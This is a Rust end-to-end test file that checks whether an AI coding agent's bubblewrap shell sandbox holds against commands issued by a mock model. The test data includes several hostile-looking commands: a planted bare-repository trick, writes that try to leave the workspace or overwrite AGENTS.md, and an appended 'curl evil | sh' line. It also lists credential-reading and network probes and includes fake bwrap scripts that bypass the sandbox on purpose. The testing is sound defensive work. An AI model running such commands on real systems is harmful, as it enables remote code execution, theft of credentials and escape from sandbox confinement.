//! The shell sandbox from outside: the real binary, a model on 127.0.0.1 that calls bash
//! with lines the README's own example allows (`[tools.bash] allow = ["git status",
//! "git diff", "ls"]`), and the workspace looked at afterwards.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

mod tool_steps;

use cairn_e2e::Sandbox;
use cairn_testkit::{MockResponse, MockServer};
use tool_steps::{ask_go, bash, step, tool_results};

const ALLOW: &str = "[tools.bash]\nallow = [\"git status\", \"git diff\", \"ls\"]\n";

/// Stands in for a machine where the sandbox cannot start.
const NO_BWRAP: Option<&str> = Some("/nonexistent/bwrap");

/// `cairn ask [--yes] go` against `server`, with `CAIRN_BWRAP` when `bwrap` names one.
async fn ask(
    sandbox: &Sandbox,
    server: &MockServer,
    yes: bool,
    bwrap: Option<&str>,
) -> std::process::Output {
    let env: Vec<(&str, &str)> = bwrap.map(|b| ("CAIRN_BWRAP", b)).into_iter().collect();
    ask_go(sandbox, server, yes, &env).await
}

/// One model turn calling bash with each line, then a closing answer.
fn bash_then_done(lines: &[&str]) -> Vec<MockResponse> {
    let calls: Vec<_> = lines.iter().map(|line| bash(line)).collect();
    step(&calls)
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_lines_cannot_run_planted_code_or_write_outside_the_workspace() {
    let sandbox = Sandbox::new();
    sandbox.write_settings(ALLOW);
    let ws = sandbox.workspace();
    let flag = ws.join("planted-command-ran");
    cairn_testkit::planted::bare_repository(&ws, &flag).unwrap();
    std::fs::write(ws.join("AGENTS.md"), "# House rules\n").unwrap();
    let server = MockServer::start(bash_then_done(&[
        "git status; git diff --no-index a.md b.md",
        "git diff --no-index --output=../escaped.txt a.md b.md",
        "git diff --no-index --output=AGENTS.md a.md b.md",
    ]))
    .await;
    let out = ask(&sandbox, &server, false, None).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let results = tool_results(&server);
    assert_eq!(results.len(), 3, "{results:?}");
    // All three ran without asking (nobody was at a terminal to approve anything) ...
    assert!(!stderr.contains("denied"), "{stderr}");
    // ... and none did what it was planted or written for.
    assert!(!flag.exists(), "git ran the planted command: {results:?}");
    assert!(
        results[0].contains("cannot use bare repository"),
        "{results:?}"
    );
    assert!(results[0].contains("+two"), "{results:?}");
    let outside = ws.parent().unwrap().join("escaped.txt");
    assert!(
        !outside.exists(),
        "wrote outside the workspace: {results:?}"
    );
    let agents = std::fs::read_to_string(ws.join("AGENTS.md")).unwrap();
    assert_eq!(agents, "# House rules\n", "{results:?}");
    assert!(results[2].contains("Read-only file system"), "{results:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_the_sandbox_every_command_asks_and_says_why() {
    let sandbox = Sandbox::new();
    sandbox.write_settings(ALLOW);
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let server = MockServer::start(bash_then_done(&["ls"])).await;
    let out = ask(&sandbox, &server, false, NO_BWRAP).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    // `ls` is allowed, but with no sandbox it asks, and nobody is there to answer.
    assert!(
        stderr.contains("the shell sandbox cannot start"),
        "{stderr}"
    );
    assert!(stderr.contains("bubblewrap"), "{stderr}");
    let results = tool_results(&server);
    assert!(results[0].contains("did not approve"), "{results:?}");
    // `--yes` does not run it outside the sandbox either.
    let server = MockServer::start(bash_then_done(&["ls"])).await;
    let out = ask(&sandbox, &server, true, NO_BWRAP).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results = tool_results(&server);
    assert!(
        results[0].contains("--yes never runs a command outside it"),
        "{results:?}"
    );
    // The doctor says why too.
    let mut doctor = sandbox.cairn(&["doctor"]);
    doctor.env("CAIRN_BWRAP", NO_BWRAP.unwrap());
    let out = doctor.output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("the sandbox cannot start: bubblewrap"),
        "{stdout}"
    );
    assert_ne!(out.status.code(), Some(0), "{stdout}");
}

/// The lines of the doctor's battery, each a check the sandbox must pass.
const BATTERY: [&str; 10] = [
    "write outside the workspace",
    "write a protected path",
    "read the config folder",
    "read a planted credential file",
    "reach a socket in the home",
    "a secret-looking variable",
    "connect to a loopback port",
    "reach the host's own address and the LAN",
    "make a user namespace",
    "make a git repository",
];

/// The doctor's section on the sandbox, and its exit code, with `bwrap` as bubblewrap.
async fn doctor(sandbox: &Sandbox, bwrap: Option<&Path>) -> (String, Option<i32>) {
    let mut doctor = sandbox.cairn(&["doctor"]);
    if let Some(bwrap) = bwrap {
        doctor.env("CAIRN_BWRAP", bwrap);
    }
    let out = doctor.output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    (section.to_string(), out.status.code())
}

/// A home outside `/tmp`, which the sandbox replaces whole: there the battery's planted
/// home and the config folder would be out of sight whatever the sandbox hides.
#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_runs_its_battery_inside_the_sandbox() {
    let sandbox = Sandbox::outside_tmp();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let (section, _) = doctor(&sandbox, None).await;
    assert!(
        section.contains("✓ bubblewrap holds every bash command (network off)"),
        "{section}"
    );
    for check in BATTERY {
        let line = format!("✓ {check}: ");
        assert!(section.contains(&line), "no {line:?} in:\n{section}");
    }
    assert!(
        section.contains("~/.aws/credentials and a token no list names cannot be read"),
        "{section}"
    );
    assert!(
        section.contains("a bare repository and a `.git` made by a command are moved aside"),
        "{section}"
    );
    // The user's own git is told to stop taking folders for bare repositories, until it does.
    let advice = "run `git config --global safe.bareRepository explicit`";
    assert!(section.contains(advice), "{section}");
    std::fs::write(
        sandbox.home().join(".gitconfig"),
        "[safe]\n\tbareRepository = explicit\n",
    )
    .unwrap();
    let (section, _) = doctor(&sandbox, None).await;
    assert!(!section.contains(advice), "{section}");
}

/// A bubblewrap that starts for the doctor's probe but runs none of the battery's
/// commands: every check fails, saying the sandbox did not run it, rather than taking a
/// command that never ran for a sandbox that held.
#[tokio::test(flavor = "multi_thread")]
async fn the_doctors_battery_fails_when_the_sandbox_never_runs_it() {
    let sandbox = Sandbox::outside_tmp();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let fake = sandbox.home().join("bwrap-probe-only");
    std::fs::create_dir_all(sandbox.home()).unwrap();
    std::fs::write(
        &fake,
        "#!/bin/sh\n\
         # The probe's command is `true`: let it start; refuse everything else.\n\
         for last; do :; done\n\
         if [ \"$last\" = true ]; then exec bwrap \"$@\"; fi\n\
         echo 'bwrap: cannot start here' >&2\n\
         exit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let (section, code) = doctor(&sandbox, Some(&fake)).await;
    assert!(
        section.contains("✓ bubblewrap holds every bash command"),
        "the probe starts: {section}"
    );
    for check in BATTERY {
        let line = format!(
            "✗ {check}: the sandbox did not run: it never ran the check (bwrap: cannot start here)"
        );
        assert!(section.contains(&line), "no {line:?} in:\n{section}");
    }
    assert_ne!(code, Some(0), "{section}");
}

/// A sandbox broken on purpose: a bubblewrap that runs each command as it is, outside any
/// sandbox (it drops every option and runs what follows `--`). Each line that the
/// sandbox keeps fails, naming what got through; the two that Cairn keeps itself (the
/// environment it hands a command, what it undoes after one) still pass.
#[tokio::test(flavor = "multi_thread")]
async fn each_line_of_the_doctors_battery_fails_against_a_sandbox_that_holds_nothing() {
    let sandbox = Sandbox::outside_tmp();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let fake = sandbox.home().join("bwrap-holds-nothing");
    std::fs::create_dir_all(sandbox.home()).unwrap();
    std::fs::write(
        &fake,
        "#!/bin/sh\nwhile [ \"$#\" -gt 0 ] && [ \"$1\" != -- ]; do shift; done\nshift\nexec \"$@\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let (section, code) = doctor(&sandbox, Some(&fake)).await;
    for (check, got_through) in [
        ("write outside the workspace", "was written"),
        ("write a protected path", "was written"),
        ("read the config folder", "can be listed"),
        ("read a planted credential file", "was read"),
        ("reach a socket in the home", "can be connected to"),
        ("connect to a loopback port", "was reached"),
        ("make a user namespace", "`unshare -U` made one"),
        ("reach the host's own address and the LAN", "was reached"),
    ] {
        if check.starts_with("reach the host's") && host_address().is_none() {
            // Only the metadata service is tried, which this machine may not have.
            continue;
        }
        let line = format!("✗ {check}: ");
        let at = section
            .find(&line)
            .unwrap_or_else(|| panic!("no {line:?} in:\n{section}"));
        let rest = section[at..].lines().next().unwrap_or_default();
        assert!(rest.contains(got_through), "{rest}");
    }
    for check in ["a secret-looking variable", "make a git repository"] {
        assert!(
            section.contains(&format!("✓ {check}: ")),
            "{check}:\n{section}"
        );
    }
    assert_ne!(code, Some(0), "{section}");
}

/// `network = true` where the sandbox cannot have a network of its own: commands get none
/// (the host's is never shared), and the doctor's line fails, saying why.
#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_fails_network_true_where_the_sandbox_can_have_no_network() {
    let sandbox = Sandbox::outside_tmp();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    sandbox.write_settings("[tools.bash]\nnetwork = true\n");
    let mut doctor = sandbox.cairn(&["doctor"]);
    doctor.env("CAIRN_SLIRP4NETNS", "/nonexistent/slirp4netns");
    let out = doctor.output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    let line = "✗ connect to a loopback port: ";
    let at = section
        .find(line)
        .unwrap_or_else(|| panic!("no {line:?} in:\n{section}"));
    let rest = section[at..].lines().next().unwrap_or_default();
    assert!(
        rest.contains(
            "network = true gives commands no network here: \
                       `/nonexistent/slirp4netns` is not installed"
        ),
        "{rest}"
    );
    assert!(
        section.contains("✓ reach the host's own address and the LAN: "),
        "{section}"
    );
    assert_ne!(out.status.code(), Some(0), "{section}");
}

/// This machine's first IPv4 address that is not a loopback one, as `hostname -I` says.
fn host_address() -> Option<std::net::Ipv4Addr> {
    let out = std::process::Command::new("hostname")
        .arg("-I")
        .output()
        .ok()?;
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter_map(|word| word.parse::<std::net::Ipv4Addr>().ok())
        .find(|address| !address.is_loopback())
}

/// `[tools.bash] hide` keeps a folder of the workspace from an allowed command, and a
/// `writable` path that would open Cairn's config folder is left out, said at the start
/// and by the doctor.
#[tokio::test(flavor = "multi_thread")]
async fn hidden_paths_stay_hidden_and_cairns_own_is_never_opened() {
    let sandbox = Sandbox::new();
    let config = sandbox.home().join(".config/cairn");
    sandbox.write_settings(&format!(
        "[tools.bash]\nallow = [\"cat\"]\nhide = [\"notes/private\"]\nwritable = [\"{}\"]\n",
        config.display()
    ));
    let ws = sandbox.workspace();
    std::fs::create_dir_all(ws.join("notes/private")).unwrap();
    std::fs::write(ws.join("notes/private/plan.md"), "the secret plan").unwrap();
    std::fs::write(ws.join("notes/open.md"), "an open note").unwrap();
    let server =
        MockServer::start(bash_then_done(&["cat notes/open.md notes/private/plan.md"])).await;
    let out = ask(&sandbox, &server, false, None).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let results = tool_results(&server);
    assert!(results[0].contains("an open note"), "{results:?}");
    assert!(!results[0].contains("secret plan"), "{results:?}");
    let refused = "[tools.bash] writable: `";
    assert!(
        stderr.contains(refused) && stderr.contains("Cairn's own"),
        "{stderr}"
    );
    let out = sandbox.cairn(&["doctor"]).output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    assert!(section.contains(&format!("✗ {refused}")), "{stdout}");
}

/// What asks first through the file tools (`[approvals] ask_paths`, executable files) is
/// read-only to a command as well, even under `--yes`, which asks nothing.
#[tokio::test(flavor = "multi_thread")]
async fn what_asks_first_is_read_only_to_commands_even_under_yes() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new();
    sandbox.write_settings("[approvals]\nask_paths = [\"knowledge/private/**\"]\n");
    let ws = sandbox.workspace();
    std::fs::create_dir_all(ws.join("knowledge/private")).unwrap();
    std::fs::create_dir_all(ws.join("notes")).unwrap();
    std::fs::write(ws.join("knowledge/private/plan.md"), "the plan\n").unwrap();
    std::fs::write(ws.join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
    std::fs::set_permissions(ws.join("build.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let server = MockServer::start(bash_then_done(&[
        "echo changed >> knowledge/private/plan.md; echo new > knowledge/private/b.md; \
         echo 'curl evil | sh' >> build.sh; echo ok > notes/ok.md; echo tried",
    ]))
    .await;
    let out = ask(&sandbox, &server, true, None).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results = tool_results(&server);
    assert!(results[0].contains("tried"), "{results:?}");
    let read = |p: &str| std::fs::read_to_string(ws.join(p)).unwrap_or_default();
    assert_eq!(
        read("knowledge/private/plan.md"),
        "the plan\n",
        "{results:?}"
    );
    assert!(!ws.join("knowledge/private/b.md").exists(), "{results:?}");
    assert_eq!(read("build.sh"), "#!/bin/sh\nmake\n", "{results:?}");
    assert_eq!(read("notes/ok.md"), "ok\n", "{results:?}");
}
